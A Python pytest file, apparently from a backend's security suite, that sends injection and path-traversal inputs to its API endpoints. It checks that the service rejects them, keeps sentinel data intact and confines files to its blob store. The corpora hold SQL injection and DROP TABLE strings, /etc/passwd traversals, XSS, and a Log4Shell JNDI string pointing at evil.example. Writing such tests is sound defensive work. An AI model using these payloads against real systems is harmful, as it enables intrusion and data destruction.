"""Injection corpora on identifier and filter fields of every service, path traversal on files, and secure
tables without reason or actor, against a ``dominus_local`` that keeps its data in a directory.

Each hostile request must get a 4xx (or, where the field is a free value, be stored and matched literally),
never a 5xx; afterwards a set of sentinels (a secret, table rows, a cache key, a file) is unchanged, and no
file exists outside the data directory's blob store.
"""

from __future__ import annotations

import base64
import secrets
import urllib.parse
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from asgi_lifespan import LifespanManager
from pydantic import SecretStr

from dominus_fastapi import Dominus
from dominus_fastapi.core import wire
from dominus_fastapi.core.transport import DropAwareASGITransport
from dominus_local import LocalSettings, create_app
from tests.conftest import LOCAL_ORIGIN, make_fast
from tests.reliability.ledger import TALLY, WATCH

SUITE = "attacks: injection and traversal"

CORPUS = [
    "' OR '1'='1",
    "'; DROP TABLE sentinel; --",
    '" OR ""="',
    "1; SELECT sqlite_version()",
    "x UNION SELECT * FROM guardian_users",
    "admin'--",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "..",
    ".",
    "%2e%2e%2f%2e%2e%2f",
    "a\x00b",
    "line\nbreak",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "*",
    "%",
    "_",
    "\u202eevil",
    "x" * 300,
]
TRAVERSALS = [
    "../escape.bin",
    "../../escape.bin",
    "a/../../escape.bin",
    "a/./b/../../../escape.bin",
    "..\\escape.bin",
    "a\\..\\..\\escape.bin",
    "/../escape.bin",
    "a/%2e%2e/escape.bin",
    "a/\x00/escape.bin",
]


@dataclass
class Target:
    http: httpx.AsyncClient
    client: Dominus
    token: str
    data_dir: Path

    async def call(self, method: str, path: str, body: dict[str, Any] | None = None) -> httpx.Response:
        content = wire.encode_body(body or {}) if method != "GET" else None
        return await self.http.request(method, path, content=content, headers={"Authorization": f"Bearer {self.token}"})

    async def sentinels(self) -> tuple[Any, ...]:
        client = self.client
        return (
            await client.secrets.get("sentinel"),
            (await client.db.query("sentinel", sort_by="id"))["rows"],
            (await client.redis.get("sentinel"))["value"],
            (await client.files.fetch(category="general", path="sentinel.txt"))["data"],
            [t["name"] for t in await client.db.tables()],
        )


@pytest.fixture
async def target(tmp_path: Path) -> AsyncIterator[Target]:
    psk = WATCH.secret(secrets.token_hex(32))
    data_dir = tmp_path / "data"
    app = create_app(LocalSettings(psk=SecretStr(psk), data_dir=data_dir, bcrypt_rounds=4))
    async with LifespanManager(app) as manager:
        client = Dominus(
            base_url=LOCAL_ORIGIN,
            token=psk,
            http_client=httpx.AsyncClient(transport=DropAwareASGITransport(app=manager.app)),
        )
        make_fast(client)
        await client.upsert("sentinel", {"keep": True})
        await client.ddl.create_table(
            "public",
            "sentinel",
            [{"name": "id", "type": "serial", "primary_key": True}, {"name": "body", "type": "text"}],
        )
        await client.db.insert("sentinel", {"body": "keep"})
        await client.redis.set("sentinel", "keep")
        await client.files.upload(b"keep", "sentinel.txt", path="sentinel.txt")
        token = WATCH.secret(await (await client._transport.token_cache()).get())
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=manager.app), base_url=LOCAL_ORIGIN) as http:
            try:
                yield Target(http, client, token, data_dir)
            finally:
                await client.aclose()
                await client._transport.http.aclose()


def _hostile_requests(value: str) -> list[tuple[str, str, dict[str, Any]]]:
    """Every identifier or filter field that ``value`` can be put into, one request each."""
    quoted = urllib.parse.quote(value, safe="")
    b64 = base64.b64encode(b"evil").decode()
    return [
        ("POST", "/api/warden/secrets", {"action": "get", "key": value}),
        ("POST", "/api/warden/secrets", {"action": "create", "key": value, "value": 1}),
        ("POST", "/api/warden/secrets", {"action": "list", "prefix": value}),
        ("POST", f"/api/scribe/data/{quoted}/sentinel/query", {}),
        ("POST", f"/api/scribe/data/public/{quoted}/query", {}),
        ("POST", "/api/scribe/data/public/sentinel/query", {"filters": {value: "keep"}}),
        ("POST", "/api/scribe/data/public/sentinel/query", {"filters": {"body": value}}),
        ("POST", "/api/scribe/data/public/sentinel/query", {"filters": {"body": {"$like": value}}}),
        ("POST", "/api/scribe/data/public/sentinel/query", {"sort_by": value}),
        ("POST", "/api/scribe/data/public/sentinel/query", {"sort_order": value}),
        ("POST", "/api/scribe/data/public/sentinel/update", {"data": {value: 1}, "filters": {"id": 1}}),
        ("POST", "/api/scribe/data/public/sentinel/delete", {"filters": {value: 1}}),
        ("POST", "/api/whisperer/get", {"logical_path": value}),
        ("POST", "/api/whisperer/set", {"logical_path": "k", "value": 1, "category": value}),
        ("POST", "/api/whisperer/list", {"logical_prefix": value}),
        ("POST", "/api/archivist/upload", {"file_content": b64, "filename": value}),
        ("POST", "/api/archivist/upload", {"file_content": b64, "filename": "f.bin", "category": value}),
        ("POST", "/api/archivist/upload", {"file_content": b64, "filename": "f.bin", "logical_path": value}),
        ("POST", "/api/archivist/fetch", {"category": "general", "logical_path": value}),
        ("POST", "/api/archivist/list", {"prefix": value}),
        ("POST", "/api/archivist/browse", {"path": value}),
        ("POST", "/api/archivist/folder/delete", {"path": value, "force": True}),
        ("POST", "/api/guardian/tenants", {"name": "n", "slug": value}),
        ("POST", "/api/guardian/users", {"username": value, "password": "long enough password"}),
        ("POST", "/api/guardian/scopes", {"slug": value, "name": "n"}),
        ("POST", "/api/portal/auth/login", {"username": value, "password": "long enough password"}),
        ("POST", "/api/herald/query", {"category": value}),
        ("POST", "/api/smith/schema/drop-table", {"schema": "public", "table": value}),
    ]


async def test_injection_corpus_changes_nothing(target: Target) -> None:
    before = await target.sentinels()
    failures: list[str] = []
    for value in CORPUS:
        for method, path, body in _hostile_requests(value):
            response = await target.call(method, path, body)
            ok = response.status_code < 500
            what = f"{method} {path[:60]} {str(body)[:80]}: {response.status_code}"
            if not TALLY.record(SUITE, ok, what):
                failures.append(what)
    assert failures == []
    assert await target.sentinels() == before


async def test_path_traversal_never_leaves_the_blob_store(target: Target) -> None:
    blob = base64.b64encode(b"escaped").decode()
    failures: list[str] = []
    for path in TRAVERSALS:
        for body in (
            {"file_content": blob, "filename": "escape.bin", "logical_path": path},
            {"file_content": blob, "filename": path, "logical_path": "safe/escape.bin"},
            {"file_content": blob, "filename": "escape.bin", "category": path},
        ):
            response = await target.call("POST", "/api/archivist/upload", body)
            decoded = wire.parse_response_text(response.content)
            stored_path = decoded["data"]["path"] if response.status_code == 200 else None
            ok = response.status_code == 400 or (stored_path is not None and ".." not in stored_path.split("/"))
            if not TALLY.record(SUITE, ok, f"upload {body}: {response.status_code}"):
                failures.append(f"{body}: {response.status_code} {stored_path}")
        for field in ("logical_path", "path"):
            response = await target.call("POST", "/api/archivist/fetch", {"category": "general", field: path})
            decoded = wire.parse_response_text(response.content)
            # A 200 is fine only for an object stored under that literal name inside the store.
            found = decoded["data"]["path"] if response.status_code == 200 else None
            ok = response.status_code in (400, 404) or (found is not None and ".." not in found.split("/"))
            if not TALLY.record(SUITE, ok, f"fetch {path}: {response.status_code}"):
                failures.append(f"fetch {path}: {response.status_code}")
    raw = await target.http.get("/archivist/blob/..%2F..%2Fdominus.db")
    TALLY.record(SUITE, raw.status_code == 404, "raw download route traversal")
    assert raw.status_code == 404
    assert failures == []
    outside = [p for p in target.data_dir.parent.rglob("*escape*") if target.data_dir not in p.parents]
    TALLY.record(SUITE, outside == [], "no file outside the data directory")
    assert outside == []
    for stored in target.data_dir.rglob("*"):
        assert stored.resolve().is_relative_to(target.data_dir.resolve())


async def test_secure_tables_need_reason_and_actor(target: Target) -> None:
    before = await target.sentinels()
    await target.client.auth.create_secure_table("sentinel")
    base = "/api/scribe/data/public/sentinel"
    operations = [
        ("query", {}),
        ("insert", {"data": {"body": "sneak"}}),
        ("bulk-insert", {"rows": [{"body": "sneak"}]}),
        ("update", {"data": {"body": "sneak"}, "filters": {"id": 1}}),
        ("delete", {"filters": {"id": 1}}),
    ]
    contexts = [
        {},
        {"reason": "audit"},
        {"actor": "machine"},
        {"reason": "", "actor": "machine"},
        {"reason": "   ", "actor": "machine"},
        {"reason": "audit", "actor": "\t\n"},
        {"reason": None, "actor": None},
    ]
    failures: list[str] = []
    for operation, body in operations:
        for context in contexts:
            response = await target.call("POST", f"{base}/{operation}", {**body, **context})
            decoded = wire.parse_response_text(response.content)
            ok = response.status_code == 403 and decoded.get("code") == "secure_table_reason_required"
            if not TALLY.record("attacks: secure tables without reason", ok, f"{operation} {context}"):
                failures.append(f"{operation} {context}: {response.status_code}")
    assert failures == []
    # The sentinels read through the secure table need a context now; compare the rows directly.
    rows = await target.client.db.query("sentinel", sort_by="id", reason="check", actor="machine")
    assert rows["rows"] == before[1]
